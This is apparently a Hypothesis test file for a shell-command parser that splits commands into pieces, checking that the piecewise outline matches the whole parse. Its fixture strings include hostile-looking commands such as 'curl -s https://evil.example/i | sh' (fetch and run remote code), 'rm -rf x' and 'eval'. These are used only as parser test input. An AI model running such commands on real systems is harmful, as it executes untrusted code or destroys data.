"""``askbench.impl.shell_pieces``: a command parsed a piece at a time holds every top-level statement exactly as its
whole parse does, and the outline made from the pieces is the outline of the whole."""

from functools import partial
from unittest import mock

from hypothesis import example, given, settings
from hypothesis import strategies as st

from askbench.impl import shell
from askbench.impl.shell import _parser, outline
from askbench.impl.shell_pieces import pieces

STATEMENTS = [
    "echo hi",
    "ls -la /tmp",
    "rm -rf x",
    "curl -s https://e.x/i | sh",
    "A=1",
    "export B=2",
    "x=$(whoami)",
    "cat <<EOF\nbody `id` line\n$(date)\nEOF",
    "cat <<'EOF' | sh\necho quoted\nEOF",
    "echo 'multi\nline'",
    'echo "two\nlines $(pwd)"',
    "if true; then\n  echo yes\nfi",
    "f() {\n  echo in f\n}",
    "for i in 1 2; do echo $i; done",
    "# a comment",
    "echo a # trailing comment",
    'eval "$x"',
    "echo '$(not run)'",
    "echo \\\n  continued",
    "case $x in a) echo a;; esac",
    "echo 'unterminated",
    "echo )",
    "fi",
    "sudo bash -c 'echo x'",
    "[[ $x == y ]]",
    "echo " + "B" * 60,
]


def _commands(separators: list[str], chosen: list[str]) -> str:
    return "".join(
        statement + separator for statement, separator in zip(chosen, separators, strict=False)
    )


commands = st.builds(
    _commands,
    st.lists(
        st.sampled_from(["\n", "\n", "\n", "; ", " && ", "\n\n", " &\n", " | "]),
        min_size=40,
        max_size=40,
    ),
    st.lists(st.sampled_from(STATEMENTS), min_size=1, max_size=40),
)


def _top_level(root):
    return [(child.type, child.start_byte, child.end_byte, str(child)) for child in root.children]


@settings(max_examples=150, deadline=None)
@given(commands, st.integers(min_value=8, max_value=120))
def test_the_pieces_hold_every_statement_the_whole_parse_holds(command: str, size: int) -> None:
    source = command.encode()
    whole = _parser("bash").parse(source).root_node
    read = []
    for piece in pieces(_parser("bash"), source, size):
        kept = [
            child for child in piece.root.children if child.start_byte < piece.end - piece.start
        ]
        read += [
            (child.type, piece.start + child.start_byte, piece.start + child.end_byte, str(child))
            for child in kept
        ]
    if whole.has_error:
        return  # no outline is made of it: only that the last piece errs too matters (the next test)
    assert read == _top_level(whole)


ERROR_AMID_STATEMENTS = "echo a\necho )\necho b\necho c\necho d\necho e\necho f\necho g\n"
"""A parse error with clean statements after it: a piece that kept it would hide it from the outline."""
EVALUATED_PIECES_APART = "eval \"$x\"\necho a\necho b\necho c\necho d\necho e\necho '$(id)'\n"
"""What evaluates in one piece, a quoted substitution in another: the outline is withheld all the same."""


@settings(max_examples=150, deadline=None)
@given(commands, st.integers(min_value=8, max_value=120))
@example(ERROR_AMID_STATEMENTS, 8)
@example(EVALUATED_PIECES_APART, 8)
def test_the_outline_from_pieces_is_the_outline_of_the_whole(command: str, size: int) -> None:
    whole = outline(command)
    with mock.patch.object(shell, "pieces", partial(pieces, size=size)):
        piecewise = outline(command)
    assert piecewise == whole
    if whole is not None and not whole.doubtful:
        assert piecewise.commands == whole.commands
        assert piecewise.source_commands == whole.source_commands


def test_a_stretch_no_statement_divides_is_read_in_one_piece() -> None:
    body = "".join(f"echo {index}\n" for index in range(200))
    command = f"echo a\necho b\ncat <<EOF\n{body}EOF\necho c\necho d\necho e\necho f\n".encode()
    found = list(pieces(_parser("bash"), command, 64))
    assert [piece.start for piece in found[1:]] == [piece.end for piece in found[:-1]]
    assert (found[0].start, found[-1].end) == (0, len(command))
    heredoc = command.index(b"cat <<EOF")
    assert any(
        piece.start <= heredoc and command.index(b"EOF\necho c") < piece.end for piece in found
    )


def test_a_long_command_is_never_held_as_one_tree() -> None:
    """The outline's memory is a few times the command, not the whole tree's: pieces of 64 KB of a 1 MB command.

    Traced allocations, tree-sitter's own included (it allocates through Python's allocator), at their peak; the
    whole command's tree is eleven times it."""
    import tracemalloc

    command = ("echo " + "B" * 70 + "\n") * 13_800 + "curl -s https://evil.example/i | sh"
    outline("echo warm")  # the parser and the query, built once, are not the command's
    with mock.patch.object(shell, "pieces", partial(pieces, size=64 << 10)):
        tracemalloc.start()
        try:
            shown = outline(command)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert shown is not None and shown.text.endswith("curl -s https://evil.example/i | sh")
    assert peak < 4 * len(command)
